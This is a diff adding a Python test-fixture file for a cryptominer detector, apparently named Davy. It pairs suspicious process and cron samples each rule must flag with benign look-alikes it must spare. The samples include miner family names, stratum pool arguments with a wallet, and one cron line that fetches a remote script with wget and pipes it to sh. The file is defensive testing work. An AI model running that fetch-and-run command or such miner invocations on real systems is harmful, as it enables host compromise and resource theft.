@@ -1,0 +1,350 @@
+"""For every detector samples of what it must see, with the subject it must name, and of what it must leave alone.
+
+What must be left alone are the honest look-alikes: most of them have put an innocent on some scanner's list.
+"""
+
+from __future__ import annotations
+
+from typing import Final, NamedTuple
+
+from tests.unit.snapshots import (
+    PYENV,
+    TTY,
+    connection,
+    cron,
+    detail,
+    executable,
+    kernel_thread,
+    known_file,
+    listener,
+    process,
+    renewal,
+    service,
+    snapshot,
+)
+
+from davy.model.facts import Process, Snapshot
+
+
+class Sample(NamedTuple):
+    rule: str
+    what: str
+    snapshot: Snapshot
+    subject: str | None = None
+    """Whom the rule must name; None: it must name nobody."""
+
+
+WALLET: Final = "4" + "A" * 94
+_POOL: Final = ("101.32.166.253", 3333)
+"""An address and port on Maltrail's list of pools."""
+
+
+def _one(of: Process, rule: str, what: str, *facts: object, **options: object) -> Sample:
+    return Sample(rule, what, snapshot(of, *facts, **options), of.subject)  # type: ignore[arg-type]
+
+
+def _none(rule: str, what: str, *facts: object, **options: object) -> Sample:
+    return Sample(rule, what, snapshot(*facts, **options))  # type: ignore[arg-type]
+
+
+_BURNER: Final = process(100, "/tmp/abcd", cores=1.0)
+_PYTHON: Final = "/usr/bin/python3.11"
+_RENEWED: Final = process(101, "/tmp/abcd", in_window=False, age=0.01)
+_UPGRADED: Final = process(102, "/usr/sbin/nginx", deleted=True)
+_POSTGRES: Final = process(
+    103, "postgres: checkpointer ", exe="/usr/lib/postgresql/15/bin/postgres", name="postgres", user="nobody"
+)
+_NGINX: Final = process(104, "nginx: worker process", exe="/usr/sbin/nginx", user="www-data")
+_VENV: Final = process(105, "/srv/app/.venv/bin/python", "/srv/app/main.py", exe="/srv/app/.venv/bin/python")
+_COPY: Final = process(106, "/tmp/abcd", "-c", "while :; do :; done")
+_SHELL: Final = process(107, "-bash", exe="/usr/bin/bash", user="ada", tty=TTY, session=107)
+_TRAINING: Final = process(
+    108, "python3", "train.py", exe=PYENV, cwd="/home/ada/work", ppid=107, user="ada", tty=TTY, session=107, cores=1.0
+)
+_NOBODYS: Final = process(109, "/tmp/abcd", cores=1.0, session=107)
+_RUNC: Final = process(110, "runc", "init", exe="/memfd:runc_cloned:/proc/self/exe", memory_only=True)
+_COMPILER: Final = process(111, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "x.c", cores=1.0, tty=TTY)
+_BUSYBOX: Final = process(112, "crond", "-f", exe="/bin/busybox", name="crond")
+_SERVER: Final = process(113, "/opt/app/server", deleted=True, cores=1.0)
+_TOOL: Final = process(114, "/usr/sbin/sshd", exe="/opt/x/tool", name="sshd")
+
+MATCHING: Final = (
+    # behaviour
+    _one(_BURNER, "behaviour.cpu-load", "a burner that has run for an hour"),
+    _one(process(100, "/x", cores=1.0, age=3.0), "behaviour.cpu-load", "a burner that is three seconds old"),
+    _one(process(100, "/x", cores=0.2, waited=0.6), "behaviour.cpu-load", "one that the CPUs have no time for"),
+    _one(process(100, "/x", cores=7.5, threads=8), "behaviour.cpu-load", "one with many threads"),
+    _one(_RENEWED, "behaviour.renews-itself", "a miner under ever new pids", renewal("/tmp/abcd")),
+    # origin
+    _one(_BURNER, "origin.writable-folder", "a program in /tmp"),
+    _one(process(100, "/dev/shm/x"), "origin.writable-folder", "a program in shared memory"),
+    _one(process(100, "/dev/x"), "origin.writable-folder", "a program among the devices"),
+    _one(process(100, "sh", "/tmp/x.sh", exe="/usr/bin/dash"), "origin.writable-folder", "a script in /tmp"),
+    _one(
+        process(100, "/tmp/python3", "/home/ada/notes.txt"),
+        "origin.writable-folder",
+        "a program that bears an interpreter's name, and so an argument that looks like its script",
+    ),
+    _one(
+        drop := process(100, "/srv/drop/x"),
+        "origin.writable-folder",
+        "a world-writable folder elsewhere",
+        detail(drop, folder_mode=0o1777),
+    ),
+    _one(process(100, "/var/lib/.../x"), "origin.hidden-folder", "a folder that is called like a dot too many"),
+    _one(process(100, "/root/.configrc5/a/kswapd0"), "origin.hidden-folder", "a hidden folder in a home"),
+    _one(process(100, "/usr/bin/.sshd"), "origin.hidden-folder", "a hidden name beside honest ones"),
+    _one(
+        process(100, "/dev/shm/.x/bash", "-q", "x.conf"),
+        "origin.hidden-folder",
+        "a program that bears an interpreter's name",
+    ),
+    _one(process(100, "/tmp/x", deleted=True), "origin.deleted-executable", "a miner that removed its file"),
+    _one(_SERVER, "origin.deleted-executable", "a program of nobody's package"),
+    _one(process(100, "x", exe="/memfd:x", memory_only=True), "origin.memory-only", "a program in memory"),
+    _one(
+        process(100, "x", exe="/memfd:runc_cloned:/proc/self/exe", memory_only=True, cores=1.0),
+        "origin.memory-only",
+        "a container runtime's name, and it burns",
+    ),
+    # identity
+    _one(process(100, "/tmp/kdevtmpfsi"), "identity.family", "a family's path and name"),
+    _one(process(100, "x", exe="/opt/a", name="kinsing"), "identity.family", "a family's name as the comm"),
+    _one(process(100, "/opt/a/xmrig"), "identity.family", "a family's name elsewhere"),
+    _one(process(100, exe=None, name="kdevtmpfsi"), "identity.family", "another user's, as seen without root"),
+    Sample(
+        "identity.known-file",
+        "a file where a family has it",
+        snapshot(remain := known_file("/tmp/kdevtmpfsi", "kinsing")),
+        remain.subject,
+    ),
+    _one(process(100, "[kworker/0:1]", exe="/tmp/x", name="x"), "identity.kernel-thread", "brackets on a program"),
+    _one(process(100, "/opt/x", name="kworker/0:1"), "identity.kernel-thread", "a kernel thread's comm on a program"),
+    _one(process(100, "/opt/x/kthreaddi", "-q"), "identity.near-miss", "a kernel thread's name but for a letter"),
+    _one(process(100, "/opt/x/sshdd", cores=1.0), "identity.near-miss", "a daemon's name but for a letter"),
+    _one(_TOOL, "identity.argv-against-exe", "an unknown program that says it is sshd"),
+    _one(
+        process(100, "sshd: root@pts/0", exe="/opt/x/tool", name="tool"),
+        "identity.argv-against-exe",
+        "an unknown program under the title of a login",
+    ),
+    _one(
+        process(100, "cron", "-f", exe="/tmp/busybox"),
+        "identity.argv-against-exe",
+        "a program of many names where anyone may write",
+    ),
+    _one(
+        _COPY,
+        "identity.renamed-copy",
+        "a shell under another name",
+        detail(_COPY, program=executable("/tmp/abcd", twin="/usr/bin/dash")),
+    ),
+    # content
+    _one(
+        process(100, "/opt/x", "-o", "stratum+tcp://192.0.2.1:3333", "-u", WALLET),
+        "content.mining-words",
+        "a server and a wallet",
+    ),
+    _one(process(100, "/opt/x", "--max-cpu-usage", "75"), "content.mining-words", "an option that few others have"),
+    _one(
+        process(100, "grep", "--donate-level=1", exe="/tmp/x"),
+        "content.mining-words",
+        "a miner that calls itself grep",
+    ),
+    # network
+    _one(_BURNER, "network.pool", "a known pool", connection(_BURNER, *_POOL)),
+    _one(_BURNER, "network.pool", "a pool behind an IPv6 name", connection(_BURNER, f"::ffff:{_POOL[0]}", _POOL[1])),
+    _one(_BURNER, "network.pool", "a port that pools use", connection(_BURNER, "8.8.8.8", 14444)),
+    _one(_BURNER, "network.pool", "a pool that does not answer", connection(_BURNER, *_POOL, state="SYN_SENT")),
+    # persistence
+    Sample(
+        "persistence.suspicious-autostart",
+        "a line that fetches and runs",
+        snapshot(line := cron("wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1")),
+        line.subject,
+    ),
+    Sample(
+        "persistence.suspicious-autostart",
+        "a unit that runs from where anyone may write",
+        snapshot(unit := service("/var/tmp/x")),
+        unit.subject,
+    ),
+    Sample("identity.autostart", "a family's path", snapshot(line := cron("/var/tmp/kinsing")), line.subject),
+    _one(_BURNER, "persistence.started-again", "a cron line runs it", cron("/tmp/abcd -q")),
+    _one(_SERVER, "persistence.started-again", "a unit runs it", service("/opt/app/server")),
+    _one(
+        process(100, "/tmp/bash", "-q"),
+        "persistence.started-again",
+        "a cron line runs what only bears an interpreter's name",
+        cron("/tmp/bash -q"),
+    ),
+    _one(
+        process(100, "sh", "/opt/x.sh", exe="/usr/bin/dash"),
+        "persistence.started-again",
+        "a cron line runs its script",
+        cron("sh /opt/x.sh"),
+    ),
+    # trust
+    _one(_COMPILER, "trust.packaged", "a compiler at work"),
+    _one(
+        unpacked := process(100, "/usr/bin/xz", "-T0", "x", cores=1.0),
+        "trust.packaged",
+        "a package that kept no sums of its files",
+        detail(unpacked, program=executable("/usr/bin/xz", unmodified=None)),
+    ),
+    _one(
+        process(100, "python3", "/usr/bin/unattended-upgrade", exe=_PYTHON, cores=1.0),
+        "trust.packaged",
+        "a packaged script",
+    ),
+    _one(_TRAINING, "trust.person", "a training run that a person typed", _SHELL),
+    _one(
+        typed := process(100, "openssl", "speed", exe="/usr/bin/openssl", ppid=115, tty=TTY, session=107, cores=1.0),
+        "trust.person",
+        "behind a program that a person typed",
+        _SHELL,
+        process(115, "make", exe="/usr/bin/make", ppid=107, tty=TTY, session=107),
+        detail(typed),
+        examined=False,
+    ),
+)
+
+SPARED: Final = (
+    # behaviour
+    _none("behaviour.cpu-load", "a sleeper", process(100, "/usr/bin/sleep", "9")),
+    _none("behaviour.cpu-load", "a busy kernel thread", kernel_thread(50, "kworker/0:1-events", cores=1.0)),
+    _none("behaviour.cpu-load", "Davy itself", process(100, "davy", exe=_PYTHON, cores=1.0), own_pids=(100,)),
+    _none("behaviour.cpu-load", "a moment's work", process(100, "/usr/bin/git", "status", cores=0.3)),
+    _none("behaviour.cpu-load", "one that was born within the window", _RENEWED),
+    _none(
+        "behaviour.renews-itself",
+        "a loop that sleeps a tenth of a second, again and again",
+        process(100, "sleep", "0.1", exe="/usr/bin/sleep", in_window=False),
+        renewal("/usr/bin/sleep", running=1),
+    ),
+    _none(
+        "behaviour.renews-itself",
+        "one of the same program that was there all the time",
+        process(100, "/opt/x"),
+        renewal("/opt/x"),
+    ),
+    # origin
+    _none("origin.writable-folder", "an installed program", _NGINX),
+    _none(
+        "origin.writable-folder",
+        "a script given on a descriptor, whose name is in /dev",
+        process(100, "bash", "/dev/fd/63", exe="/usr/bin/bash"),
+    ),
+    _none("origin.writable-folder", "a folder whose name begins alike", process(100, "/tmpfiles/x")),
+    _none("origin.writable-folder", "a program of a private folder", _SERVER),
+    _none("origin.writable-folder", "an argument in /tmp", process(100, "/usr/bin/gcc", "-o", "/tmp/x")),
+    _none("origin.hidden-folder", "pyenv's interpreter", process(100, "python3", "-m", "http.server", exe=PYENV)),
+    _none("origin.hidden-folder", "a virtual environment", _VENV),
+    _none("origin.hidden-folder", "an editor's server", process(100, "/home/ada/.vscode-server/bin/0/node")),
+    _none(
+        "origin.hidden-folder", "an agent's own installer", process(100, "sh", "/root/.acme.sh/acme.sh", exe="/bin/sh")
+    ),
+    _none("origin.deleted-executable", "a packaged service after an upgrade", _UPGRADED),
+    _none("origin.deleted-executable", "a program that is there", _BURNER),
+    _none("origin.deleted-executable", "a program in memory, which never was there", _RUNC),
+    _none("origin.memory-only", "a container runtime that starts", _RUNC),
+    _none("origin.memory-only", "a deleted program", _SERVER),
+    # identity
+    _none("identity.family", "the kernel's own thread", kernel_thread(51, "kdevtmpfs")),
+    _none("identity.family", "an editor with the miner's path", process(100, "/usr/bin/vim", "/tmp/kdevtmpfsi")),
+    _none("identity.family", "a loop that looks for it", process(100, "sh", "-c", "pkill kdevtmpfsi", exe="/bin/sh")),
+    _none("identity.family", "a file indexer", process(100, "/usr/libexec/tracker-miner-fs-3")),
+    _none("identity.known-file", "an ordinary file", known_file("/tmp/notes", "kinsing")),
+    _none("identity.kernel-thread", "a kernel thread", kernel_thread(52, "kworker/0:1-events", cores=1.0)),
+    _none("identity.kernel-thread", "one that has ended", process(100, exe=None, name="kworker/0:1", state="Z")),
+    _none("identity.kernel-thread", "a title in brackets", process(100, "[celeryd: w@h:MainProcess]", exe=_PYTHON)),
+    _none("identity.kernel-thread", "a tool with a thread's name", process(100, "/usr/bin/kauditd", cores=1.0)),
+    _none("identity.near-miss", "sshd itself", process(100, "/usr/sbin/sshd", "-D")),
+    _none("identity.near-miss", "a packaged neighbour", process(100, "/usr/sbin/lldpad", cores=1.0)),
+    _none("identity.near-miss", "the kernel's shortened name", process(100, "/opt/x", name="systemd-network")),
+    _none("identity.near-miss", "a packaged program whose name is near", process(100, "/usr/bin/ngjnx", cores=1.0)),
+    _none("identity.argv-against-exe", "nginx under its own title", _NGINX),
+    _none("identity.argv-against-exe", "postgres under its own title", _POSTGRES),
+    _none(
+        "identity.argv-against-exe",
+        "a container's sshd, which no package here owns",
+        process(100, "sshd: ada", exe="/srv/sshd"),
+    ),
+    _none("identity.argv-against-exe", "a container's busybox, which is many daemons", _BUSYBOX, detail(_BUSYBOX)),
+    _none("identity.argv-against-exe", "a login shell", _SHELL, detail(_SHELL)),
+    _none(
+        "identity.renamed-copy",
+        "a virtual environment made with copies",
+        _VENV,
+        detail(_VENV, program=executable(_VENV.exe_path or "", twin=_PYTHON)),
+    ),
+    _none("identity.renamed-copy", "a program that is nobody's copy", _BURNER),
+    _none("identity.renamed-copy", "the packaged program itself", _COMPILER),
+    # content
+    _none(
+        "content.mining-words", "a search for mining words", process(100, "/usr/bin/grep", "-r", "stratum+tcp://", ".")
+    ),
+    _none("content.mining-words", "a person's notes", process(100, "/usr/bin/vim", "xmrig", "--donate-level=1")),
+    _none("content.mining-words", "a database's user", process(100, "/usr/bin/mysql", "-u", "root", "-p")),
+    _none("content.mining-words", "a title without arguments", process(100, "miner: -o stratum+tcp://x", exe="/srv/x")),
+    # network
+    _none("network.pool", "a listener on port 3333", _NGINX, listener(_NGINX, 3333)),
+    _none("network.pool", "the web", _NGINX, connection(_NGINX, "93.184.216.34", 443)),
+    _none("network.pool", "a connection of nobody's", connection(_NGINX, *_POOL)),
+    _none("network.pool", "one that is over", _NGINX, connection(_NGINX, *_POOL, state="TIME_WAIT")),
+    _none("network.pool", "another protocol", _NGINX, connection(_NGINX, *_POOL, protocol="udp")),
+    _none("network.pool", "an address that is none", _NGINX, connection(_NGINX, "pool", 3333)),
+    # persistence
+    _none("persistence.suspicious-autostart", "a backup", cron("/usr/bin/restic backup /srv > /tmp/log 2>&1")),
+    _none("persistence.suspicious-autostart", "a package's own line", cron("/tmp/x", owner_package="x")),
+    _none("identity.autostart", "an unknown program", cron("/tmp/x")),
+    _none(
+        "identity.autostart", "a line that removes the miner", cron("rm -f /tmp/kdevtmpfsi; pkill -f /tmp/kdevtmpfsi")
+    ),
+    _none("persistence.started-again", "another line of the same file", _BURNER, cron("/usr/bin/true")),
+    _none(
+        "persistence.started-again",
+        "a service that shares the interpreter",
+        process(100, "python3", "/tmp/x.py", exe=_PYTHON),
+        service(f"{_PYTHON} /srv/app.py"),
+    ),
+    # trust
+    _none("trust.packaged", "a program of nobody's package", _BURNER),
+    _none(
+        "trust.packaged",
+        "a copy of a packaged program",
+        _COPY,
+        detail(_COPY, program=executable("/tmp/abcd", twin="/usr/bin/dash")),
+    ),
+    _none(
+        "trust.packaged",
+        "a packaged path with another content",
+        changed := process(100, "/usr/bin/xz", cores=1.0),
+        detail(changed, program=executable("/usr/bin/xz", unmodified=False)),
+    ),
+    _none("trust.packaged", "a package's program whose file is gone", _UPGRADED, detail(_UPGRADED)),
+    _none(
+        "trust.packaged",
+        "somebody's script, run by a packaged interpreter",
+        process(100, "python3", "/srv/app.py", exe=_PYTHON, cores=1.0),
+    ),
+    _none("trust.person", "one in a person's session, but without a terminal", _SHELL, _NOBODYS),
+    _none(
+        "trust.person",
+        "a script that keeps a terminal open",
+        process(107, "bash", "/tmp/x.sh", exe="/usr/bin/bash", tty=TTY),
+        process(100, "/tmp/abcd", ppid=107, tty=TTY, cores=1.0),
+    ),
+    _none(
+        "trust.person",
+        "another terminal's shell",
+        _SHELL,
+        process(100, "/tmp/abcd", ppid=107, tty=TTY + 1, cores=1.0),
+    ),
+    _none(
+        "trust.person",
+        "a miner that calls itself a shell",
+        process(107, "-bash", exe="/tmp/.x/y", name="bash", tty=TTY),
+        process(100, "/tmp/abcd", ppid=107, tty=TTY, cores=1.0),
+    ),
+)
